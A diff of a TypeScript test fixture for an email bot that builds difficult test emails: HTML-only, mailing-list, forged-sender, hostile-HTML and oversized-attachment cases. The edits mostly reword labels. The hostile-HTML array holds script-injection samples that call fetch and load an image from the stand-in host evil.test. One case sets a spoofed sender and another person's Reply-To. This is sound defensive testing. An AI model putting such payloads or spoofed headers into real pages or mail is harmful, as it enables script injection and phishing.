@@ -1,9 +1,9 @@
-/** Prepared mails that are hard to answer. */
+/** Prepared emails that are difficult to handle. */
 import type { MailFile, WrittenMail } from '@botyard/testing/mailer/types';
 
 type Piece = { name: string; shows: string };
 
-/** HTML that a page or a mail program must show and never run. */
+/** HTML that a page or an email client must never run. */
 const hostileHtml = [
   '<script>window.pwned = true; fetch("http://evil.test/script")</script>',
   '<img src="http://evil.test/pixel.png" onerror="window.pwned = true">',
@@ -14,8 +14,8 @@ const elsewhere: [string, string] = ['Reply-To', 'victim@harbour.test'];
 
 const pieces: Record<string, Piece & { change: (mail: WrittenMail) => WrittenMail }> = {
   'html-only': {
-    name: 'Only HTML',
-    shows: 'No plain text at all: the bot has to read the HTML',
+    name: 'HTML only',
+    shows: 'No plain text: the bot has to read the HTML',
     change: ({ text = '', ...mail }) => ({
       ...mail,
       html: `<div><p>${text.replace(/[&<]/g, (sign) => (sign === '&' ? '&amp;' : '&lt;'))}</p><p><b>Sent from my phone</b></p></div>`,
@@ -23,7 +23,7 @@ const pieces: Record<string, Piece & { change: (mail: WrittenMail) => WrittenMai
   },
   list: {
     name: 'From a mailing list',
-    shows: 'Gets no answer',
+    shows: 'The bot does not answer',
     change: (mail) => ({
       ...mail,
       headers: [
@@ -33,8 +33,8 @@ const pieces: Record<string, Piece & { change: (mail: WrittenMail) => WrittenMai
     }),
   },
   forged: {
-    name: "In somebody else's name",
-    shows: "SPF and DKIM don't prove the sender: held, whoever they are",
+    name: 'Forged sender',
+    shows: "SPF and DKIM don't prove the sender: the email is held",
     change: (mail) => ({
       ...mail,
       sender: 'mallory@evil.test',
@@ -49,7 +49,7 @@ const pieces: Record<string, Piece & { change: (mail: WrittenMail) => WrittenMai
   hostile: {
     name: 'Hostile HTML',
     shows:
-      'Scripts, pictures, forms and a Reply-To of somebody else: all of it is text, and the answer goes to the sender',
+      "Scripts, pictures, forms and another person's Reply-To: shown as text, and the answer goes to the sender",
     change: (mail) => ({
       ...mail,
       html: hostileHtml,
@@ -59,15 +59,15 @@ const pieces: Record<string, Piece & { change: (mail: WrittenMail) => WrittenMai
   },
   'eleven-files': {
     name: 'Eleven attachments',
-    shows: 'One more than is taken: refused',
+    shows: 'One more than allowed: rejected',
     change: (mail) => ({
       ...mail,
       files: Array.from({ length: 11 }, (_, index) => fileOf(`${index + 1}.txt`, 5)),
     }),
   },
   'big-file': {
-    name: 'A file of 26 MB',
-    shows: 'More than is taken: refused',
+    name: 'A 26 MB file',
+    shows: 'Larger than allowed: rejected',
     change: (mail) => ({ ...mail, files: [fileOf('big.bin', 26 * 1024 * 1024)] }),
   },
 };
@@ -78,7 +78,7 @@ export const listOfPieces = Object.entries(pieces).map(([piece, { name, shows }]
   shows,
 }));
 
-/** `undefined` for an unknown name. */
+/** Returns `undefined` for an unknown name. */
 export function asPiece(piece: string, mail: WrittenMail): WrittenMail | undefined {
   return Object.hasOwn(pieces, piece) ? pieces[piece]?.change(mail) : undefined;
 }
